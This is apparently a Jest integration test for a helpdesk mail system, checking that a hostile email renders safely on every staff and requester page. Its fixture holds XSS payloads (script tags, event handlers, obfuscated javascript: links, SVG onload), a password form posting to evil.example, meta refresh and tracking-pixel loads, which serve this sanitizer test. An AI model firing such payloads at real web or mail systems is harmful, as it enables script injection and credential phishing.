/** A mail that means harm, from its bytes to the page that shows it: nothing of it runs, moves or reports. */
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, expect, test } from '@jest/globals';
import { DomUtils, parseDocument } from 'htmlparser2';
import { onBothDatabases } from '../support/databases.ts';
import { type Installation, install } from '../support/installation.ts';
import { startWebsite, type Website } from '../support/opened-website.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

const GIF = 'R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64');

/** Words that must be read, each behind what should not hold it back. */
const HOSTILE = `
  <script>alert('run-1')</script><p>read-1</p>
  <img src=x onerror="alert('run-2')"><p onmouseover="alert('run-3')">read-2</p>
  <div style="position:fixed;top:0;left:0;width:9999px;background:url(https://track.example/run-4)">read-3</div>
  <p style="color:red;text-align:center !important;position:absolute;margin-left:-500px;z-index:9;display:none">x</p>
  <style>body{display:none}@import 'https://track.example/run-5'</style>
  <form action="https://evil.example/run-6" method="post"><input name="password"><button>read-4</button></form>
  <iframe src="https://evil.example/run-7">x</iframe><object data="https://evil.example/run-8"></object>
  <a href="javascript:alert('run-9')">read-5</a> <a href=" java&#09;script:alert('run-10')">read-6</a>
  <a href="https://univ.example/fine">read-7</a>
  <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/run-11">
  <link rel="stylesheet" href="https://evil.example/run-12.css">
  <svg onload="alert('run-13')"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
  <img src="https://track.example/pixel.gif" width="1" height="1">
  <img src="cid:good@x" alt="good"> <img src="cid:drawing@x" alt="drawing"> <img src="cid:elsewhere@x" alt="elsewhere">
  <p id="main" class="btn note" name="_csrf">read-8</p>
  <details class="fold" open ontoggle="alert('run-14')"><summary>read-9</summary></details>
  <blockquote type="cite"><script>alert('run-15')</script>quoted-1</blockquote>
  <p>read-10 <%= process.env %> <%- include('/layout/page') %> &lt;script&gt;alert('text')&lt;/script&gt; {{1+1}}</p>
  </div></main></body></html><script>alert('run-16')</script><p>read-11</p>`;

const part = (type: string, id: string, name: string, base64: string) =>
  `--r\r\nContent-Type: ${type}; name="${name}"\r\nContent-ID: <${id}>\r\nContent-Disposition: inline; filename="${name}"\r\n` +
  `Content-Transfer-Encoding: base64\r\n\r\n${base64}\r\n`;

const MAIL =
  'From: "<img src=x onerror=alert(1)> Ada" <ada@univ.example>\r\nTo: assistance@univ.example\r\n' +
  'Subject: <script>alert("subject")</script> & "quotes"\r\nMessage-ID: <hostile@univ.example>\r\n' +
  'Date: Sun, 22 Nov 2026 08:00:00 +0100\r\nMIME-Version: 1.0\r\n' +
  'Content-Type: multipart/related; boundary=r\r\n\r\n' +
  `--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${HOSTILE}\r\n` +
  part('image/gif', 'good@x', 'good.gif', GIF) +
  part('image/svg+xml', 'drawing@x', '<b onclick=1>drawing.svg', SVG) +
  '--r--\r\n';

const parsed = (html: string) => DomUtils.getElementsByTagName(() => true, parseDocument(html), true);
/** The elements of the mail within the page. */
const mailIn = (html: string) => {
  const around = parsed(html).filter(({ attribs }) => attribs.class === 'mail-html');
  return DomUtils.getElementsByTagName(
    () => true,
    around.flatMap(({ children }) => children),
    true,
  );
};
/** Our own link to a page with the images of an entry. */
const askedIn = (html: string) => /href="(\?images=\w+)#entry-\d+"/.exec(html)?.[1] ?? 'no link';
const imagesOf = (html: string) => mailIn(html).filter(({ name }) => name === 'img');

onBothDatabases('a hostile mail', (open) => {
  const closes: (() => Promise<void>)[] = [];
  afterEach(async () => {
    for (const close of closes.splice(0)) await close();
  });

  async function receive(): Promise<{ home: Installation; site: Website }> {
    const folder = temporaryFolder('hostile');
    const box = join(folder.path, 'box');
    await mkdir(box);
    await writeFile(join(box, 'hostile.eml'), MAIL);
    const { url } = await open();
    const env = { MAIL_ADDRESS: 'assistance@univ.example' };
    const home = await install({ databaseUrl: url, mailboxes: [`folder:${box}?since=all`], env });
    closes.push(home.close, folder.remove);
    expect(await home.poll()).toMatchObject([{ seen: 1, opened: 1 }]);
    await home.person('Ben', 'agent');
    const site = await startWebsite(home.gateway.intake);
    closes.unshift(site.close);
    return { home, site };
  }

  test('is read, and does nothing', async () => {
    const { site } = await receive();
    const ben = await site.signIn('ben@univ.example');
    const ada = await site.signIn('ada@univ.example');
    const ticket = await ben.get('/staff/tickets/R-000001');
    const pages = [
      ticket,
      await ben.get(`/staff/tickets/R-000001${askedIn(ticket.html)}`),
      await ben.get('/staff/tickets'),
      await ben.get('/mail'),
      await ben.get('/mail/1'),
      await ada.get('/requests/R-000001'),
      await ada.get('/requests'),
    ];
    for (const { path, status, html } of pages) {
      expect([path, status]).toEqual([path, 200]);
      expect([path, html.match(/run-\d+/g)]).toEqual([path, null]);
      const all = parsed(html);
      for (const { name, attribs } of all) {
        expect(Object.keys(attribs).filter((attribute) => /^on/i.test(attribute))).toEqual([]);
        expect(attribs.href ?? '').not.toMatch(/^\s*(?:javascript|data|vbscript):/i);
        if (name === 'script') expect(attribs.src).toMatch(/^\/assets\//);
        if (name === 'form') expect(attribs.action).toMatch(/^\/[a-z]/);
      }
      const names = new Set(all.map(({ name }) => name));
      for (const name of ['iframe', 'object', 'embed', 'style', 'base', 'svg'])
        expect([path, name, names.has(name)]).toEqual([path, name, false]);
      expect(all.filter(({ name }) => name === 'meta').some(({ attribs }) => 'http-equiv' in attribs)).toBe(false);
      const ids = all.flatMap(({ attribs }) => attribs.id ?? []);
      expect(ids).toEqual([...new Set(ids)]);
      // The mail's markup closes nothing of the page: what comes after it is still within.
      expect(html.trimEnd()).toMatch(/<\/footer>\s*<\/body>\s*<\/html>$/);
      expect(names.has('footer')).toBe(true);
    }
    for (const page of [pages[0], pages[1], pages[5]]) {
      const words = page?.words() ?? '';
      for (let read = 1; read <= 11; read += 1) expect(words).toContain(`read-${read}`);
      expect(words).toContain('quoted-1');
      expect(words).toContain("<script>alert('text')</script> {{1+1}}");
      expect(words).toContain('<script>alert("subject")</script> & "quotes"');
    }
  });

  test('shows of its images those that came with it as images, of the others nothing until somebody asks', async () => {
    const { site } = await receive();
    const ben = await site.signIn('ben@univ.example');
    const page = await ben.get('/staff/tickets/R-000001');
    const sources = (html: string) => imagesOf(html).flatMap(({ attribs }) => attribs.src ?? []);
    expect(sources(page.html)).toEqual(['/files/1/image']);
    expect(imagesOf(page.html).flatMap(({ attribs }) => attribs.alt ?? [])).toEqual(['good', 'drawing', 'elsewhere']);
    const shown = await ben.get(`/staff/tickets/R-000001${askedIn(page.html)}`);
    expect(sources(shown.html)).toEqual(['https://track.example/pixel.gif', '/files/1/image']);
    const [pixel] = imagesOf(shown.html).filter(({ attribs }) => attribs.src?.startsWith('https:'));
    expect(pixel?.attribs).toMatchObject({ referrerpolicy: 'no-referrer', loading: 'lazy' });
    const image = await ben.get('/files/1/image');
    expect([image.status, Buffer.from(image.bytes).toString('base64')]).toEqual([200, GIF]);
    // The drawing is a document: it is a file to be saved.
    expect((await ben.get('/files/2/image')).status).toBe(404);
    const drawing = await ben.get('/files/2');
    expect(drawing.headers.get('content-disposition')).toMatch(/^attachment; filename=/);
    expect(page.words()).toContain('drawing.svg');
  });

  test('styles itself only as mails may', async () => {
    const { site } = await receive();
    const { html } = await (await site.signIn('ben@univ.example')).get('/staff/tickets/R-000001');
    expect(mailIn(html).flatMap(({ attribs }) => attribs.style ?? [])).toEqual(['color:red;text-align:center']);
    expect(mailIn(html).flatMap(({ attribs }) => attribs.class ?? [])).toEqual(['fold']);
    expect(parsed(html).filter(({ attribs }) => 'style' in attribs)).toHaveLength(1);
  });
});
